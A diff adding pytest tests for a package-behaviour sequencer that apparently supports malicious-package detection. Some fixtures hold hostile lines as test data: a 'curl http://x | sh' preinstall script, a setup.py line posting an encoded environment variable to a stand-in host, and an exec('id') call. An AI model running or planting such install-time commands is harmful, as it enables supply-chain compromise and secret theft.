@@ -1,0 +1,225 @@
+"""The builder on hand-written analyses: independent of what the extractors emit."""
+
+from __future__ import annotations
+
+import time
+from pathlib import Path
+
+from seq_helpers import FileBuilder, analysis_of, assert_in_order, folder_package, ids
+
+from malseq._deadline import Deadline
+from malseq.features.types import MODULE_SCOPE, BehaviourEvent, CallKind
+from malseq.intake.package import Language
+from malseq.sequence import Stage, build_sequence
+
+JS = Language.JAVASCRIPT
+
+
+def _npm(tmp_path: Path, scripts: str = "", main: str = "", files: tuple[str, ...] = ()) -> object:
+    manifest = '{"name": "p", "version": "1.0.0"' + (f', "scripts": {{{scripts}}}' if scripts else "") + (
+        f', "main": "{main}"' if main else "") + "}"
+    return folder_package(tmp_path, {"package.json": manifest, **{f: "// code\n" for f in files}})
+
+
+def test_call_expands_callee_at_call_site_and_unreached_is_kept_apart(tmp_path: Path) -> None:
+    package = _npm(tmp_path, '"postinstall": "node a.js"', files=("a.js", "dead.js"))
+    a = (FileBuilder("a.js", JS)
+         .function("steal", 10, 12).event("read_env", 11, "steal")
+         .event("import_network_module", 1)
+         .call("steal", 5)
+         .event("upload_data", 6))
+    dead = FileBuilder("dead.js", JS).event("run_command", 3)
+    seq = build_sequence(package, analysis_of(a, dead), Deadline(10))  # type: ignore[arg-type]
+    assert ids(seq, Stage.INSTALL) == ["import_network_module", "read_env", "upload_data"]
+    assert [(s.behaviour, s.file, s.line) for s in seq.stage_steps(Stage.UNREACHED)] == [("run_command", "dead.js", 3)]
+    steal = next(s for s in seq.steps if s.behaviour == "read_env")
+    assert steal.depth == 1 and steal.scope == "steal"
+
+
+def test_recursion_and_mutual_recursion_are_cut_on_the_path(tmp_path: Path) -> None:
+    package = _npm(tmp_path, '"install": "node a.js"', files=("a.js",))
+    a = (FileBuilder("a.js", JS)
+         .function("f", 2, 5).event("fs_read", 3, "f").call("g", 4, "f").call("f", 4, "f", col=10)
+         .function("g", 6, 8).event("fs_write", 7, "g").call("f", 7, "g", col=5)
+         .call("f", 10))
+    seq = build_sequence(package, analysis_of(a), Deadline(10))  # type: ignore[arg-type]
+    assert ids(seq, Stage.INSTALL) == ["fs_read", "fs_write"]
+    assert not seq.budget_exhausted
+
+
+def test_depth_bound(tmp_path: Path) -> None:
+    package = _npm(tmp_path, '"install": "node a.js"', files=("a.js",))
+    a = FileBuilder("a.js", JS).call("f0", 1)
+    for i in range(40):
+        a.function(f"f{i}", 10 + 3 * i, 12 + 3 * i)
+        a.event("fs_read" if i % 2 else "fs_write", 11 + 3 * i, f"f{i}")
+        a.call(f"f{i + 1}", 12 + 3 * i, f"f{i}")
+    seq = build_sequence(package, analysis_of(a), Deadline(10), max_depth=10)  # type: ignore[arg-type]
+    reached = [s for s in seq.steps if s.stage is Stage.INSTALL]
+    assert len(reached) == 10 and max(s.depth for s in reached) == 10
+    assert len(seq.stage_steps(Stage.UNREACHED)) == 30
+
+
+def test_exponential_call_graph_is_linear_with_replay(tmp_path: Path) -> None:
+    package = _npm(tmp_path, '"install": "node a.js"', files=("a.js",))
+    a = FileBuilder("a.js", JS).call("f0", 1)
+    for i in range(22):  # f_i calls f_{i+1} twice: 2^22 paths
+        a.function(f"f{i}", 10 + 4 * i, 13 + 4 * i)
+        a.call(f"f{i + 1}", 11 + 4 * i, f"f{i}")
+        a.event("read_env" if i % 2 else "encoding_call", 12 + 4 * i, f"f{i}")
+        a.call(f"f{i + 1}", 13 + 4 * i, f"f{i}")
+    a.function("f22", 200, 201).event("upload_data", 201, "f22")
+    start = time.monotonic()
+    seq = build_sequence(package, analysis_of(a), Deadline(30), max_steps=4000)  # type: ignore[arg-type]
+    assert time.monotonic() - start < 10
+    assert not seq.stage_steps(Stage.UNREACHED)
+    assert len(seq.steps) <= 4000
+
+
+def test_functions_without_behaviour_are_not_walked_but_their_callees_are(tmp_path: Path) -> None:
+    package = _npm(tmp_path, '"install": "node a.js"', files=("a.js",))
+    a = (FileBuilder("a.js", JS)
+         .function("noop", 2, 3).call("console.log", 3, "noop")
+         .function("relay", 4, 6).call("noop", 5, "relay").call("leaf", 6, "relay", col=2)
+         .function("leaf", 7, 8).event("dns_lookup", 8, "leaf")
+         .call("relay", 10))
+    seq = build_sequence(package, analysis_of(a), Deadline(10))  # type: ignore[arg-type]
+    assert ids(seq, Stage.INSTALL) == ["dns_lookup"]
+    assert seq.steps[0].depth == 2
+
+
+def test_local_require_runs_module_once_per_process(tmp_path: Path) -> None:
+    package = _npm(tmp_path, '"postinstall": "node a.js"', main="a.js", files=("a.js", "lib/u.js"))
+    a = (FileBuilder("a.js", JS)
+         .binding("u", "./lib/u", None, 1).binding("again", "./lib/u.js", None, 2)
+         .call("u.send", 3).call("again.send", 4))
+    u = (FileBuilder("lib/u.js", JS).event("import_network_module", 1)
+         .function("send", 2, 4).event("upload_data", 3, "send"))
+    seq = build_sequence(package, analysis_of(a, u), Deadline(10))  # type: ignore[arg-type]
+    expected = ["import_network_module", "upload_data"]  # module body once; two sends merge into one step
+    assert ids(seq, Stage.INSTALL) == expected
+    assert ids(seq, Stage.IMPORT) == expected  # importing the package is a new process
+    upload = next(s for s in seq.steps if s.behaviour == "upload_data")
+    assert upload.count == 2
+
+
+def test_inline_arrow_and_callback_run_after_the_receiving_call(tmp_path: Path) -> None:
+    package = _npm(tmp_path, '"postinstall": "node a.js"', files=())
+    source = (
+        "const https = require('https');\n"
+        "https.get('https://x.example', (res) => { res.pipe(out); });\n"
+        "setTimeout(later, 10);\n"
+        "function later() { exec('id'); }\n"
+    )
+    (tmp_path / "a.js").write_text(source)
+    package = folder_package(tmp_path, {})
+    a = (FileBuilder("a.js", JS)
+         .binding("https", "https", None, 1)
+         .call("https.get", 2, col=6).event("network_request", 2, col=6)
+         .call("<arrow@2:33>", 2, col=33, kind=CallKind.INLINE)
+         .function("<arrow@2:33>", 2, 2).call("res.pipe", 2, "<arrow@2:33>", col=46)
+         .event("fs_write", 2, "<arrow@2:33>", col=46)
+         .call("setTimeout", 3, col=0).call("later", 3, col=11, kind=CallKind.CALLBACK)
+         .event("eval_code", 3, col=0)
+         .function("later", 4, 4).call("exec", 4, "later", col=19).event("run_command", 4, "later", col=19))
+    seq = build_sequence(package, analysis_of(a), Deadline(10))  # type: ignore[arg-type]
+    assert ids(seq, Stage.INSTALL) == ["network_request", "fs_write", "eval_code", "run_command"]
+
+
+def test_arguments_run_before_the_call_that_receives_them(tmp_path: Path) -> None:
+    source = (
+        "import base64, os, requests\n"
+        "requests.post('http://x', data=base64.b64encode(os.environ['K'].encode()))\n"
+    )
+    package = folder_package(tmp_path, {"setup.py": source})
+    setup = (FileBuilder("setup.py")
+             .call("requests.post", 2, col=0).event("upload_data", 2, col=0)
+             .event("use_url", 2, col=14)
+             .call("base64.b64encode", 2, col=31).event("encoding_call", 2, col=31)
+             .call("os.environ['K'].encode", 2, col=48).event("read_env", 2, col=48))
+    seq = build_sequence(package, analysis_of(setup), Deadline(10))
+    assert ids(seq, Stage.INSTALL) == ["use_url", "read_env", "encoding_call", "upload_data"]
+
+
+def test_python_class_body_self_and_cmdclass_run(tmp_path: Path) -> None:
+    package = folder_package(tmp_path, {"setup.py": "# code\n"})
+    setup = (FileBuilder("setup.py")
+             .function("Cmd", 3, 12, is_class=True)
+             .event("read_env", 4, "Cmd")  # class attribute: runs at definition
+             .function("Cmd.run", 5, 7, "Cmd").call("self.helper", 6, "Cmd.run")
+             .function("Cmd.helper", 8, 10, "Cmd").event("run_command", 9, "Cmd.helper")
+             .event("setup_command_override", 14))
+    seq = build_sequence(package, analysis_of(setup), Deadline(10))
+    assert [(s.behaviour, s.entry) for s in seq.steps] == [
+        ("read_env", "setup.py"),
+        ("setup_command_override", "setup.py"),
+        ("run_command", "setup.py Cmd.run"),
+    ]
+    assert [e.label for e in seq.entry_points] == ["setup.py", "setup.py Cmd.run"]
+
+
+def test_python_imports_relative_absolute_and_src_layout(tmp_path: Path) -> None:
+    package = folder_package(tmp_path, {
+        "setup.py": "#\n", "src/helperlib/__init__.py": "#\n", "src/helperlib/fetch.py": "#\n",
+        "src/helperlib/util.py": "#\n",
+    })
+    setup = (FileBuilder("setup.py").binding("grab", "helperlib.fetch", "grab", 1)
+             .call("helperlib.fetch.grab", 3))  # the Python extractor writes callees through imports
+    init = FileBuilder("src/helperlib/__init__.py").event("import_os_module", 1)
+    fetch = (FileBuilder("src/helperlib/fetch.py").binding("send", ".util", "send", 1)
+             .function("grab", 2, 4).call("send", 3, "grab"))
+    util = (FileBuilder("src/helperlib/util.py").event("import_network_module", 1)
+            .function("send", 2, 3).event("upload_data", 3, "send"))
+    seq = build_sequence(package, analysis_of(setup, init, fetch, util), Deadline(10))
+    assert_in_order(ids(seq, Stage.INSTALL), ["import_os_module", "import_network_module", "upload_data"])
+    assert ids(seq, Stage.IMPORT) == ["import_os_module"]  # top-level package __init__ at import time
+    assert not seq.stage_steps(Stage.UNREACHED)
+
+
+def test_console_script_entry_point(tmp_path: Path) -> None:
+    package = folder_package(tmp_path, {
+        "pkg/__init__.py": "#\n", "pkg/cli.py": "#\n",
+        "pkg-1.0.dist-info/METADATA": "Name: pkg\nVersion: 1.0\n",
+        "pkg-1.0.dist-info/WHEEL": "Wheel-Version: 1.0\n",
+        "pkg-1.0.dist-info/entry_points.txt": "[console_scripts]\npkg-run = pkg.cli:main\n",
+    })
+    cli = (FileBuilder("pkg/cli.py").event("import_process_module", 1)
+           .function("main", 3, 5).event("run_command", 4, "main"))
+    seq = build_sequence(package, analysis_of(FileBuilder("pkg/__init__.py"), cli), Deadline(10))
+    assert ids(seq, Stage.IMPORT) == ["import_process_module", "run_command"]
+    assert "console_script pkg-run = pkg.cli:main" in [e.label for e in seq.entry_points]
+
+
+def test_manifest_events_of_a_script_come_first_and_missing_file_is_recorded(tmp_path: Path) -> None:
+    package = _npm(tmp_path, '"preinstall": "curl http://x | sh && node gone.js"', files=())
+    manifest = (
+        BehaviourEvent("npm_install_script", "package.json", 1, 0, MODULE_SCOPE, "preinstall: curl http://x | sh"),
+        BehaviourEvent("download_and_execute", "package.json", 1, 0, MODULE_SCOPE, "preinstall: curl http://x | sh"),
+    )
+    seq = build_sequence(package, analysis_of(manifest=manifest), Deadline(10))  # type: ignore[arg-type]
+    assert ids(seq, Stage.INSTALL) == ["npm_install_script", "download_and_execute"]
+    assert seq.entry_points[0].label == "preinstall: node gone.js (missing file gone.js)"
+
+
+def test_deadline_already_expired_lists_everything_as_unreached(tmp_path: Path) -> None:
+    package = _npm(tmp_path, '"install": "node a.js"', files=("a.js",))
+    a = FileBuilder("a.js", JS)
+    for i in range(1000):
+        a.event("fs_read" if i % 2 else "fs_write", i + 1)
+    deadline = Deadline(0.0)
+    time.sleep(0.005)
+    seq = build_sequence(package, analysis_of(a), deadline)  # type: ignore[arg-type]
+    assert seq.budget_exhausted
+    assert sum(s.count for s in seq.steps) == 1000  # every event is somewhere, none lost
+
+
+def test_step_cap(tmp_path: Path) -> None:
+    package = _npm(tmp_path, '"install": "node a.js"', files=("a.js",))
+    a = FileBuilder("a.js", JS)
+    for i in range(500):
+        a.event("fs_read" if i % 2 else "fs_write", i + 1)
+    seq = build_sequence(package, analysis_of(a), Deadline(10), max_steps=100)  # type: ignore[arg-type]
+    assert seq.budget_exhausted
+    assert len(seq.stage_steps(Stage.INSTALL)) == 100
+    # What the walk could not place is listed as unreached, up to the same cap.
+    assert len(seq.stage_steps(Stage.UNREACHED)) == 100
